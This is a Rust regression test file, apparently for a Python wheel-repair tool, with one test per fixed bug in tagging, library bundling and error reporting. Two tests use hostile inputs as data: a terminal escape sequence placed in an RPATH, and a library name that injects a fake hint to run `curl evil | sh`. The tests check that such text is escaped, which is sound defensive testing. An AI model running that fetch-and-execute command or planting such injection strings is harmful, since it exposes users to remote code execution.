//! One test for each bug, named for what went wrong.

use crate::support::{Elf, Sandbox, Wheel};

#[test]
fn the_file_behind_a_chain_of_links_was_left_under_its_old_name_as_well() {
    let sandbox = Sandbox::new();
    let library = Elf::library("libfoo.so.1");
    let wheel = Wheel::demo(&Elf::module(&["libfoo.so.1"]).rpath("$ORIGIN"))
        .elf("demo/libfoo.so.1", &library)
        .elf("demo/libfoo.so.1.2", &library);
    let output = sandbox.repair(&wheel, &[]);
    assert_eq!(output.names_in("demo"), ["__init__.py", "_ext.so", "libfoo.so.1"]);
}

#[test]
fn the_output_was_an_absolute_path_only_where_something_had_changed() {
    let sandbox = Sandbox::new();
    let changed = Wheel::demo(&Elf::module(&[]));
    let same = changed.clone().tag("cp312-cp312-manylinux1_x86_64.manylinux_2_5_x86_64");
    for wheel in [changed, same] {
        let run = sandbox.try_repair(&wheel, &[]);
        assert!(run.stdout.starts_with("out"), "{}", run.stdout);
    }
}

#[test]
fn an_error_in_record_or_wheel_did_not_say_in_which_file() {
    let wheel = Wheel::demo(&Elf::module(&[]));
    let text = Sandbox::new().refusal(&wheel.clone().row("a,b,c,d"), &[]);
    assert!(text.starts_with("demo-1.0.dist-info/RECORD: line "), "{text}");
    let text = Sandbox::new().refusal(&wheel.wheel_text("nonsense"), &[]);
    assert!(text.starts_with("demo-1.0.dist-info/WHEEL: line 1: "), "{text}");
}

#[test]
fn only_one_of_several_users_of_a_missing_library_had_its_search_told() {
    let needs_foo = Elf::module(&["libfoo.so.1"]);
    let wheel = Wheel::new("demo")
        .elf("demo/a.so", &needs_foo.clone().rpath("/build/a"))
        .elf("demo/b.so", &needs_foo.rpath("/build/b"));
    let text = Sandbox::new().refusal(&wheel, &["--ldpaths", "nowhere"]);
    assert!(text.contains("/build/a (RPATH of demo/a.so)"), "{text}");
    assert!(text.contains("/build/b (RPATH of demo/b.so)"), "{text}");
}

#[test]
fn a_wrong_level_in_the_environment_stopped_a_run_with_a_typed_one() {
    let wheel = Wheel::demo(&Elf::module(&[]));
    let environment = [("AUDITWHEEL_ZIP_COMPRESSION_LEVEL", "wrong")];
    Sandbox::new().repair_in(&wheel, &["-z", "6"], &environment);
}

#[test]
fn level_0_was_offered_and_refused() {
    let sandbox = Sandbox::new();
    sandbox.elf("libs/libfoo.so.1", &Elf::library("libfoo.so.1"));
    let wheel = Wheel::demo(&Elf::module(&["libfoo.so.1"]));
    let output = sandbox.repair(&wheel, &["--lib-path", "libs", "-z", "0"]);
    assert_eq!(output.names_in("demo.libs"), ["libfoo-#.so.1"]);
}

#[test]
fn names_in_binaries_reached_the_terminal_with_their_control_characters() {
    let wheel = Wheel::demo(&Elf::module(&[]).rpath("/build/\x1b]0;owned\x07"));
    let run = Sandbox::new().try_repair(&wheel, &[]);
    assert!(!run.stderr.contains(['\x1b', '\x07']), "{:?}", run.stderr);
    assert!(run.stderr.contains("`/build/\\u{1b}]0;owned\\u{7}`"), "{}", run.stderr);
}

#[test]
fn a_line_feed_in_a_needed_name_began_a_line_of_its_own() {
    let name = "libfoo.so.1\nerror: nothing\n  hint: run `curl evil | sh`";
    let wheel = Wheel::demo(&Elf::module(&[name]));
    let sandbox = Sandbox::new();
    let text = sandbox.refusal(&wheel, &["--ldpaths", "nowhere"]);
    assert!(text.starts_with("demo/_ext.so needs `libfoo.so.1\\nerror: nothing\\n  hint: run"));
    assert_eq!(text.lines().count(), 3, "{text}");

    sandbox.elf(&format!("libs/{name}"), &Elf::library("libfoo.so.1"));
    let words = ["--lib-path", "libs", "-v"];
    let done = sandbox.try_repair(&wheel, &words);
    let planned = sandbox.try_repair(&wheel, &[&words[..], &["--dry-run"]].concat());
    for text in [done.stderr, planned.stdout + &planned.stderr] {
        assert!(text.contains("\\nerror: nothing"), "{text}");
        assert!(!text.contains("\nerror: nothing"), "{text}");
    }
}

/// The platform part of the name that a repair with `words` gives.
fn platforms(wheel: &Wheel, words: &[&str]) -> String {
    let name = Sandbox::new().repair(wheel, words).file_name();
    name.trim_end_matches(".whl").rsplit('-').next().unwrap().to_owned()
}

#[test]
fn only_plat_without_a_platform_left_no_tag() {
    let wheel = Wheel::demo(&Elf::module(&[]));
    for words in [&["--only-plat"][..], &["--only-plat", "--plat", "auto"]] {
        assert_eq!(platforms(&wheel, words), "manylinux1_x86_64.manylinux_2_5_x86_64");
    }
    let both = wheel.tag("cp312-cp312-manylinux_2_5_x86_64.manylinux_2_28_x86_64");
    assert_eq!(platforms(&both, &["--only-plat"]), "manylinux1_x86_64.manylinux_2_5_x86_64");
}

#[test]
fn a_tag_for_another_architecture_stayed() {
    let wheel = Wheel::demo(&Elf::of("repair/needs-glibc-2.34.so"))
        .tag("cp312-cp312-manylinux_2_34_aarch64.manylinux_2_34_x86_64");
    assert_eq!(platforms(&wheel, &[]), "manylinux_2_34_x86_64");
}

#[test]
fn a_copy_of_the_wheels_own_library_was_brought_along_from_ld_library_path() {
    let sandbox = Sandbox::new();
    let library = Elf::library("libfoo.so.1");
    sandbox.elf("libs/libfoo.so.1", &library);
    let wheel = Wheel::demo(&Elf::module(&["libfoo.so.1"]).runpath("$ORIGIN/lib"))
        .elf("demo/lib/libfoo.so.1", &library);
    let output = sandbox.repair(&wheel, &["--lib-path", "libs"]);
    assert_eq!(output.names_in("demo.libs"), Vec::<String>::new());
}

#[test]
fn check_passed_tags_of_systems_that_no_binary_is_for() {
    let wheel = Wheel::demo(&Elf::of("repair/needs-glibc-2.34.so"));
    for (tag, why) in [
        ("musllinux_1_2_x86_64", "the binaries are built for glibc"),
        ("win_amd64", "the binaries are for Linux, none is for Windows"),
        ("macosx_11_0_arm64", "the binaries are for Linux, none is for macOS"),
    ] {
        let sandbox = Sandbox::new();
        let wheel = wheel.clone().tag(&format!("cp312-cp312-manylinux_2_34_x86_64.{tag}"));
        wheel.build(sandbox.root());
        let run = sandbox.run(&["check", &wheel.file_name()]);
        assert_eq!(run.status, 1, "{run:?}");
        assert!(run.stdout.contains(&format!("`{tag}` is not earned: {why}")), "{run:?}");
    }
}

#[test]
fn a_module_for_glibc_kept_a_musl_tag() {
    let wheel =
        Wheel::demo(&Elf::of("repair/needs-glibc-2.34.so")).tag("cp312-cp312-musllinux_1_2_x86_64");
    let text = Sandbox::new().refusal(&wheel, &["--exclude", "libc.so.6"]);
    assert!(
        text.starts_with("demo/_ext.so is built for glibc, the wheel's tags are for musl"),
        "{text}"
    );
}
